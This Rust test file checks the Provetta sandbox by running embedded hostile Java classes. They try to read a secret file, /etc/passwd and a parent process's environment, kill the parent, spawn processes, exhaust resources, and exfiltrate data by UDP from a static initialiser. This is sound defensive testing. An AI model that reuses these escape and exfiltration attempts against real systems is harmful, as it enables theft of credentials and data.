//! What the code under test cannot do: a hostile class tries each thing in the JVM that Provetta starts.
//!
//! The first tests run the class as a program, confined as the JVM is; the last one lets Provetta analyse it.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
#![cfg(target_os = "linux")]

mod common;

use std::net::{TcpListener, UdpSocket};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::Duration;

/// Prints a line for each thing that it tried: its name, and `done` or what kept it from it.
const HOSTILE: &str = r#"
import java.io.*;
import java.net.*;
import java.nio.*;
import java.nio.channels.*;
import java.nio.file.*;
import java.util.*;

public class Hostile {
    interface Attempt { void run() throws Throwable; }

    static void attempt(String name, Attempt attempt) {
        String how;
        try { attempt.run(); how = "done"; }
        catch (Throwable t) { how = "refused: " + t; }
        System.out.println(name + " " + how.replace('\n', ' '));
    }

    public static void main(String[] args) {
        Path secret = Path.of(args[0]), temp = Path.of(args[1]), given = Path.of(args[2]);
        int tcp = Integer.parseInt(args[3]), udp = Integer.parseInt(args[4]);
        long parent = Long.parseLong(args[5]);
        attempt("temp", () -> Files.writeString(Files.createTempFile(temp, "a", "b"), "x"));
        attempt("given", () -> Files.readString(given));
        attempt("thread", () -> { Thread t = new Thread(() -> {}); t.start(); t.join(); });
        attempt("zone", () -> java.time.ZoneId.systemDefault().getRules());
        attempt("random", () -> new java.security.SecureRandom().nextInt());
        attempt("read-secret", () -> Files.readString(secret));
        attempt("read-stream", () -> new FileInputStream(secret.toFile()).close());
        attempt("read-channel", () -> FileChannel.open(secret).close());
        attempt("read-passwd", () -> Files.readString(Path.of("/etc/passwd")));
        attempt("list-home", () -> Files.list(secret.getParent()).count());
        attempt("read-link", () -> {
            Path link = temp.resolve("link");
            Files.createSymbolicLink(link, secret);
            Files.readString(link);
        });
        attempt("hard-link", () -> {
            Path link = temp.resolve("hard");
            Files.createLink(link, secret);
            Files.readString(link);
        });
        attempt("read-parent-environment", () -> Files.readString(Path.of("/proc/" + parent + "/environ")));
        attempt("write", () -> Files.writeString(secret.resolveSibling("written"), "x"));
        attempt("overwrite", () -> Files.writeString(secret, "x"));
        attempt("write-given", () -> Files.writeString(given, "x"));
        attempt("delete", () -> Files.delete(secret));
        attempt("move", () -> Files.move(secret, temp.resolve("moved")));
        attempt("permissions", () -> Files.setPosixFilePermissions(secret, EnumSet.allOf(java.nio.file.attribute.PosixFilePermission.class)));
        attempt("time", () -> Files.setLastModifiedTime(secret, java.nio.file.attribute.FileTime.fromMillis(0)));
        attempt("shared-memory", () -> Files.writeString(Path.of("/dev/shm/hostile-" + parent), "x"));
        attempt("tcp", () -> new Socket("127.0.0.1", tcp).close());
        attempt("tcp-channel", () -> SocketChannel.open().close());
        attempt("listen", () -> new ServerSocket(0).close());
        attempt("udp", () -> {
            DatagramSocket socket = new DatagramSocket();
            socket.send(new DatagramPacket(new byte[] { 42 }, 1, InetAddress.getByAddress(new byte[] { 127, 0, 0, 1 }), udp));
        });
        attempt("udp-channel", () -> DatagramChannel.open().send(ByteBuffer.wrap(new byte[] { 42 }),
            new InetSocketAddress(InetAddress.getByAddress(new byte[] { 127, 0, 0, 1 }), udp)));
        attempt("unix-socket", () -> SocketChannel.open(StandardProtocolFamily.UNIX).close());
        attempt("name", () -> InetAddress.getByName("example.org"));
        attempt("process", () -> new ProcessBuilder("sleep", "600.25").start());
        attempt("runtime-exec", () -> Runtime.getRuntime().exec(new String[] { "/bin/sh", "-c", "sleep 600.25 &" }));
        attempt("kill-parent", () -> {
            if (!ProcessHandle.of(parent).map(ProcessHandle::destroyForcibly).orElse(false)) throw new IOException("not killed");
        });
        attempt("environment", () -> { if (System.getenv("SECRET") == null) throw new IOException("not seen: " + System.getenv().keySet()); });
        attempt("big-file", () -> {
            try (OutputStream out = Files.newOutputStream(temp.resolve("big"))) {
                byte[] chunk = new byte[1 << 20];
                for (int i = 0; i < 400; i++) out.write(chunk);
            }
        });
        attempt("memory", () -> {
            List<ByteBuffer> all = new ArrayList<>();
            for (int i = 0; i < 4000; i++) all.add(ByteBuffer.allocateDirect(1 << 20));
        });
        attempt("threads", () -> {
            List<Thread> all = new ArrayList<>();
            for (int i = 0; i < 20000; i++) {
                Thread t = new Thread(null, () -> { try { Thread.sleep(100000); } catch (InterruptedException e) { } }, "t", 16 << 20);
                t.setDaemon(true);
                t.start();
                all.add(t);
            }
        });
        System.out.println("end");
        Runtime.getRuntime().halt(0);
    }
}
"#;

/// What stays possible.
const ALLOWED: &[&str] = &["temp", "given", "thread", "zone", "random"];

struct Attack {
    folder: tempfile::TempDir,
    tcp: TcpListener,
    udp: UdpSocket,
}

impl Attack {
    fn new() -> Attack {
        let folder = tempfile::tempdir().unwrap();
        for name in ["temp", "given", "home", "classes"] {
            std::fs::create_dir(folder.path().join(name)).unwrap();
        }
        std::fs::write(folder.path().join("given/word"), "word").unwrap();
        std::fs::write(folder.path().join("home/secret"), "secret").unwrap();
        let source = folder.path().join("Hostile.java");
        std::fs::write(&source, HOSTILE).unwrap();
        let javac = Command::new(java_home().join("bin/javac"))
            .args(["--release", "17", "-d"])
            .args([&folder.path().join("classes"), &source])
            .status()
            .unwrap();
        assert!(javac.success());
        let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
        udp.set_nonblocking(true).unwrap();
        Attack {
            folder,
            tcp: TcpListener::bind("127.0.0.1:0").unwrap(),
            udp,
        }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    /// Runs the class confined, with more permissions.
    fn run(&self, more: &[&str]) -> Vec<(String, String)> {
        let home = java_home();
        let output = Command::new(env!("CARGO_BIN_EXE_provetta"))
            .args(["confine", "--memory", "1200", "--write"])
            .arg(self.path("temp"))
            .arg("--read")
            .arg(self.path("given"))
            .arg("--read")
            .arg(self.path("classes"))
            .arg("--jdk")
            .arg(&home)
            .args(more)
            .arg("--")
            .arg(home.join("bin/java"))
            .args([
                "-Xmx64m",
                "-XX:MaxDirectMemorySize=8g",
                "-XX:TieredStopAtLevel=1",
            ])
            .arg("-cp")
            .arg(self.path("classes"))
            .arg("Hostile")
            .arg(self.path("home/secret"))
            .arg(self.path("temp"))
            .arg(self.path("given/word"))
            .arg(self.tcp.local_addr().unwrap().port().to_string())
            .arg(self.udp.local_addr().unwrap().port().to_string())
            .arg(std::process::id().to_string())
            .env("SECRET", "secret")
            .output()
            .unwrap();
        let text = String::from_utf8_lossy(&output.stdout).into_owned();
        assert!(text.ends_with("end\n"), "{text}\n{}", said(&output));
        let lines = text.lines().filter_map(|line| line.split_once(' '));
        lines.map(|(a, b)| (a.to_owned(), b.to_owned())).collect()
    }
}

fn java_home() -> PathBuf {
    provetta_test_support::usual_jdk().unwrap().home
}

fn said(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

fn enforced() -> provetta_runner::sandbox::Enforced {
    provetta_runner::sandbox::enforced()
}

/// Whether a process that the class started is running.
fn left_behind() -> bool {
    let processes = std::fs::read_dir("/proc").unwrap().flatten();
    let mut lines = processes.filter_map(|p| std::fs::read(p.path().join("cmdline")).ok());
    lines.any(|line| line.starts_with(b"sleep\x00600.25"))
}

#[test]
fn a_hostile_class_can_do_nothing_but_compute() {
    let enforced = enforced();
    if enforced.missing().is_some() {
        eprintln!("this kernel does not enforce all of it: {enforced:?}");
        return;
    }
    let attack = Attack::new();
    let tried = attack.run(&[]);
    assert!(tried.len() > 35, "{tried:?}");
    for (name, how) in &tried {
        let is_done = how == "done";
        assert_eq!(is_done, ALLOWED.contains(&name.as_str()), "{name}: {how}");
    }
    assert!(attack.udp.recv(&mut [0; 8]).is_err(), "a packet got out");
    assert!(!left_behind());
    assert_eq!(
        std::fs::read_to_string(attack.path("home/secret")).unwrap(),
        "secret"
    );
    assert_eq!(std::fs::read_dir(attack.path("home")).unwrap().count(), 1);
    assert!(!Path::new(&format!("/dev/shm/hostile-{}", std::process::id())).exists());
}

#[test]
fn what_is_allowed_is_possible() {
    if enforced().missing().is_some() {
        return;
    }
    let attack = Attack::new();
    let secret = attack.path("home");
    let tried = attack.run(&["--network", "--env", "--read", secret.to_str().unwrap()]);
    let how = |name: &str| &tried.iter().find(|(n, _)| n == name).unwrap().1;
    for name in [
        "read-secret",
        "read-stream",
        "list-home",
        "tcp",
        "listen",
        "udp",
        "environment",
    ] {
        assert_eq!(how(name), "done", "{name}");
    }
    for name in ["overwrite", "process", "read-passwd", "kill-parent"] {
        assert_ne!(how(name), "done", "{name}");
    }
}

/// A static initialiser runs when Provetta runs the tests that it wrote.
#[test]
fn a_static_initialiser_sends_nothing_reads_nothing_and_leaves_nothing_behind() {
    if enforced().missing().is_some() {
        return;
    }
    let attack = Attack::new();
    let port = attack.udp.local_addr().unwrap().port();
    let secret = attack.path("home/secret");
    let code = format!(
        r#"
import java.net.*;
import java.nio.file.*;
public class Spy {{
    static String stolen = "nothing";
    static {{
        try {{ stolen = Files.readString(Path.of("{}")); }} catch (Throwable t) {{ }}
        try {{ stolen += System.getenv("SECRET"); }} catch (Throwable t) {{ }}
        try {{
            byte[] b = stolen.getBytes();
            new DatagramSocket().send(new DatagramPacket(b, b.length, InetAddress.getByAddress(new byte[] {{ 127, 0, 0, 1 }}), {port}));
        }} catch (Throwable t) {{ }}
        try {{ new ProcessBuilder("sleep", "600.25").start(); }} catch (Throwable t) {{ }}
    }}
    static int twice(int x) {{ return x > 3 ? x + x : 0; }}
}}
"#,
        secret.display()
    );
    let folder = attack.path("spy");
    std::fs::create_dir(&folder).unwrap();
    std::fs::write(folder.join("Spy.java"), code).unwrap();
    let run = |more: &[&str]| {
        let output = Command::new(env!("CARGO_BIN_EXE_provetta"))
            .args(["test", "--json", "-"])
            .arg(&folder)
            .arg("--out")
            .arg(attack.path("tests"))
            .args(more)
            .env("SECRET", "secret")
            .output()
            .unwrap();
        let text = String::from_utf8_lossy(&output.stdout).into_owned();
        assert!(text.contains("twice"), "{text}\n{}", said(&output));
        text
    };
    let ledger = run(&[]);
    std::thread::sleep(Duration::from_millis(100));
    assert!(attack.udp.recv(&mut [0; 64]).is_err(), "a packet got out");
    assert!(!left_behind());
    assert!(ledger.contains("\"allowed\": []"), "{ledger}");
    let mut received = [0; 64];
    let ledger = run(&["--allow", "network", "--allow", "env"]);
    assert!(ledger.contains("\"network\""), "{ledger}");
    std::thread::sleep(Duration::from_millis(100));
    let count = attack.udp.recv(&mut received).expect("a packet");
    assert_eq!(&received[..count], b"nothingsecret");
}

#[test]
fn a_permission_that_is_not_known_is_refused() {
    for (permission, word) in [("disk", "read=PATH"), ("read=/nowhere/at/all", "--allow")] {
        let output = Command::new(env!("CARGO_BIN_EXE_provetta"))
            .args(["test", "examples/delivery", "--allow", permission])
            .current_dir(common::repository())
            .output()
            .unwrap();
        assert_eq!(output.status.code(), Some(2));
        assert!(said(&output).contains(word), "{}", said(&output));
    }
}

/// A stack overflow makes the helper ask for a new process. What javac wrote has moved into the cache by then: the new one has to
/// be allowed to read it there.
#[test]
fn jvm_that_replaces_another_reads_classes_that_were_just_compiled() {
    let folder = tempfile::tempdir().unwrap();
    // Classes in the cache of earlier runs would hide what is tested.
    let unique = folder.path().file_name().unwrap().to_string_lossy();
    let text = format!(
        "class Deep {{\n    // {unique}\n    static int call(int x) {{ return x > 0 ? call(x) + 1 : 0; }}\n}}\n"
    );
    std::fs::write(folder.path().join("Deep.java"), text).unwrap();
    let ran = common::run(folder.path(), &["test", "Deep.java"]).exits(1);
    assert!(
        ran.stdout.contains("2 covered, 0 infeasible, 0 unknown"),
        "{}",
        ran.stdout
    );
}
